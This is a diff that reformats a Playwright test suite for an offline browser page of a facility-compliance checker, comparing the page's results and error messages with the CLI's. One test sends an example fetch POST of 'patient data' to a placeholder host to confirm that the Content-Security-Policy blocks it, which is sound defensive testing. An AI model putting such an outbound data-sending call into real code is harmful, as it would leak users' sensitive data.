@@ -53,8 +53,19 @@ async function checked(page: Page): Promise<void> {
 
 /** Rule id → status, per facility, as the page's report frame shows them. */
 async function pageStatuses(page: Page): Promise<Record<string, string>[]> {
-  return page.frameLocator("#report").locator("section.facility").evaluateAll((sections) =>
-    sections.map((section) => Object.fromEntries([...section.querySelectorAll<HTMLElement>("article[data-rule]")].map((rule) => [rule.dataset.rule, rule.dataset.status]))));
+  return page
+    .frameLocator("#report")
+    .locator("section.facility")
+    .evaluateAll((sections) =>
+      sections.map((section) =>
+        Object.fromEntries(
+          [...section.querySelectorAll<HTMLElement>("article[data-rule]")].map((rule) => [
+            rule.dataset.rule,
+            rule.dataset.status,
+          ]),
+        ),
+      ),
+    );
 }
 
 function cliStatuses(report: Report): Record<string, string>[] {
@@ -63,7 +74,9 @@ function cliStatuses(report: Report): Record<string, string>[] {
 
 /** The CLI's JSON report for the same input, through the library call behind `kcb check --format json`. */
 async function cliJson(paths: string[], profile?: string): Promise<Report> {
-  return JSON.parse(formatReport(await check(paths, { asOf, ...(profile ? { profile } : {}) }), "json", { lang: "en" })) as Report;
+  return JSON.parse(
+    formatReport(await check(paths, { asOf, ...(profile ? { profile } : {}) }), "json", { lang: "en" }),
+  ) as Report;
 }
 
 /**
@@ -71,29 +84,40 @@ async function cliJson(paths: string[], profile?: string): Promise<Report> {
  * carry a circumflex, breve or horn (â, ă, ơ…), which the code page has precomposed.
  */
 function windows1258Form(text: string): string {
-  return text.normalize("NFD").replace(/(\p{L})(\p{M}*)/gu, (_, base: string, marks: string) =>
-    (base + marks.replace(/[^\u0302\u0306\u031B]/gu, "")).normalize("NFC") + marks.replace(/[\u0302\u0306\u031B]/gu, ""));
+  return text
+    .normalize("NFD")
+    .replace(
+      /(\p{L})(\p{M}*)/gu,
+      (_, base: string, marks: string) =>
+        (base + marks.replace(/[^\u0302\u0306\u031B]/gu, "")).normalize("NFC") + marks.replace(/[\u0302\u0306\u031B]/gu, ""),
+    );
 }
 
 describe("browser page (web/dist/index.html) in Debian chromium", () => {
-  it.each(EXAMPLES)("shows the CLI's rule statuses for examples/%s, with no request", async (example) => {
-    const { page, requests } = await openPage();
-    await page.setInputFiles("#folder", `examples/${example}`);
-    await checked(page);
-    const expected = cliStatuses(await cliJson([`examples/${example}`]));
-    expect(Object.keys(expected[0]!).length).toBeGreaterThan(10);
-    expect(await pageStatuses(page)).toEqual(expected);
-    await expect(page.locator("#errors li").count()).resolves.toBe(0);
-    expect(requests).toEqual([]);
-    await page.close();
-  }, 90_000);
+  it.each(EXAMPLES)(
+    "shows the CLI's rule statuses for examples/%s, with no request",
+    async (example) => {
+      const { page, requests } = await openPage();
+      await page.setInputFiles("#folder", `examples/${example}`);
+      await checked(page);
+      const expected = cliStatuses(await cliJson([`examples/${example}`]));
+      expect(Object.keys(expected[0]!).length).toBeGreaterThan(10);
+      expect(await pageStatuses(page)).toEqual(expected);
+      await expect(page.locator("#errors li").count()).resolves.toBe(0);
+      expect(requests).toEqual([]);
+      await page.close();
+    },
+    90_000,
+  );
 
   it("says where a broken file is wrong, as the CLI does", async () => {
     const [cliError] = (await cliJson(["test/fixtures/malformed.yaml"])).facilities[0]!.errors;
     const { page } = await openPage();
     await page.setInputFiles("#files", "test/fixtures/malformed.yaml");
     await checked(page);
-    await expect(page.locator("#errors li code").allTextContents()).resolves.toEqual([`malformed.yaml:${cliError!.location.line}:${cliError!.location.column}`]);
+    await expect(page.locator("#errors li code").allTextContents()).resolves.toEqual([
+      `malformed.yaml:${cliError!.location.line}:${cliError!.location.column}`,
+    ]);
     await expect(page.locator("#errors li").first().textContent()).resolves.toContain(cliError!.message.vi);
     // The report frame says it too, and nothing is counted as passing.
     await expect(page.frameLocator("#report").locator("section.facility.not-assessed").count()).resolves.toBe(1);
@@ -103,20 +127,28 @@ describe("browser page (web/dist/index.html) in Debian chromium", () => {
   it("locates a missing evidence file, a TypeScript config and a raw access log it cannot read", async () => {
     const { page } = await openPage();
     // The config alone, without the CSV and XLSX files it imports.
-    await page.setInputFiles("#files", ["examples/hospital-with-evidence/facility.yaml", "examples/vendor-ts/facility.config.ts"]);
+    await page.setInputFiles("#files", [
+      "examples/hospital-with-evidence/facility.yaml",
+      "examples/vendor-ts/facility.config.ts",
+    ]);
     await checked(page);
     const errors = await page.locator("#errors li").allTextContents();
-    expect(errors).toContainEqual(expect.stringMatching(/^facility\.yaml:47:\d+ Tệp minh chứng "staff\.xlsx": không có trong các tệp đã chọn/u));
+    expect(errors).toContainEqual(
+      expect.stringMatching(/^facility\.yaml:47:\d+ Tệp minh chứng "staff\.xlsx": không có trong các tệp đã chọn/u),
+    );
     expect(errors).toContainEqual(expect.stringMatching(/^facility\.config\.ts:1:1 .*cấu hình TypeScript/u));
     await page.selectOption("#lang", "en");
-    await expect(page.locator("#errors li").allTextContents()).resolves.toContainEqual(expect.stringMatching(/^facility\.config\.ts:1:1 This installation cannot read TypeScript configs \(they need ts-morph\)/u));
+    await expect(page.locator("#errors li").allTextContents()).resolves.toContainEqual(
+      expect.stringMatching(/^facility\.config\.ts:1:1 This installation cannot read TypeScript configs \(they need ts-morph\)/u),
+    );
     await page.close();
   }, 60_000);
 
   it("decodes a Windows-1258 CSV and reads the XLSX as the CLI does", async () => {
     const folder = join(scratch, "cp1258");
     mkdirSync(folder, { recursive: true });
-    for (const file of readdirSync("examples/hospital-with-evidence")) copyFileSync(join("examples/hospital-with-evidence", file), join(folder, file));
+    for (const file of readdirSync("examples/hospital-with-evidence"))
+      copyFileSync(join("examples/hospital-with-evidence", file), join(folder, file));
     const trainings = readFileSync(join(folder, "trainings.csv"), "utf8");
     const legacy = iconv.encode(windows1258Form(trainings), "windows-1258");
     expect(iconv.decode(legacy, "windows-1258").normalize("NFC")).toBe(trainings.normalize("NFC"));
@@ -193,10 +225,13 @@ describe("browser page (web/dist/index.html) in Debian chromium", () => {
 
   it("makes no network request even when asked to: the Content-Security-Policy refuses it", async () => {
     const { page, requests } = await openPage();
-    const violated = await page.evaluate(() => new Promise<string>((resolve) => {
-      document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
-      void fetch("https://example.invalid/upload", { method: "POST", body: "patient data" }).catch(() => undefined);
-    }));
+    const violated = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
+          void fetch("https://example.invalid/upload", { method: "POST", body: "patient data" }).catch(() => undefined);
+        }),
+    );
     expect(violated).toBe("connect-src");
     expect(requests).toEqual([]);
     await page.close();
@@ -206,9 +241,12 @@ describe("browser page (web/dist/index.html) in Debian chromium", () => {
   it("checks a 1 MB generated config", async () => {
     const corpus = join(scratch, "corpus");
     execFileSync(process.execPath, ["bench/generate.mjs", "--count", "300", "--out", corpus], { stdio: "pipe" });
-    const sizes = readdirSync(corpus, { recursive: true, encoding: "utf8" }).filter((file) => file.endsWith(".yaml"))
+    const sizes = readdirSync(corpus, { recursive: true, encoding: "utf8" })
+      .filter((file) => file.endsWith(".yaml"))
       .map((file) => ({ file: join(corpus, file), size: statSync(join(corpus, file)).size }));
-    const { file, size } = sizes.reduce((best, next) => (Math.abs(next.size - 1_000_000) < Math.abs(best.size - 1_000_000) ? next : best));
+    const { file, size } = sizes.reduce((best, next) =>
+      Math.abs(next.size - 1_000_000) < Math.abs(best.size - 1_000_000) ? next : best,
+    );
     expect(size).toBeGreaterThan(800_000);
     const { page } = await openPage();
     await page.setInputFiles("#files", file);
